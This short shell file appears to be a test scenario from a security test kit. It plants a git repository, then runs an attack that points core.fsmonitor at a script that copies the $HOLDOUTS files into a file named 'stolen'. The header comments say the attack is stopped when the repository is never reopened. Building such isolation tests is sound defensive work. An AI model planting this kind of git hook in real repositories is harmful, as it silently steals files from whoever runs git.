# does: names a program in its repository's configuration that git asks what has changed
# stopped by: the checkout's repository is never opened again
# profiles: A B
# off: leaked
# sealed: a project with a file and a folder
# then: its changes are taken out
plant() {
  mkdir src && echo x > src/a.py && git add -A && git commit -qm src
}
attack() {
  printf "#!/bin/sh\ncat \"%s\"/* > stolen\n" "$HOLDOUTS" > watch.sh; chmod +x watch.sh
  git config core.fsmonitor "$PWD/watch.sh"; echo y > src/a.py
}
. "$KIT/kit.sh"
